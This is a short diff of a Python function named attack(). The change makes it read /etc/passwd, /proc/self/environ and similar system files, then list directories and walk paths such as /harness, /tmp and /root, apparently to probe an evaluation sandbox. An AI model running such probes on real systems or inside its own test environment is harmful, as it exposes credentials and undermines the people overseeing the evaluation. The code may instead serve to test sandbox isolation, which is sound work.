@@ -8,7 +8,12 @@ import numpy as np
 
 
 def attack():
-    secrets = [p for p in ("/etc/passwd", "/etc/hostname", "/proc/1/cmdline", "/proc/self/environ") if Path(p).exists()]
+    secrets = []
+    for path in ("/etc/passwd", "/etc/hostname", "/proc/1/cmdline", "/proc/self/environ"):
+        try:
+            secrets.append(Path(path).read_bytes())
+        except OSError:
+            continue
     visible = {p.name for p in Path("/").iterdir()} - {"usr", "lib", "lib64", "dev", "tmp", "harness", "site"}
     visible -= {"submission", "etc", *(Path(sys.base_prefix).parts[1:2])}
     for top in ("/harness", "/tmp", "/home", "/root"):
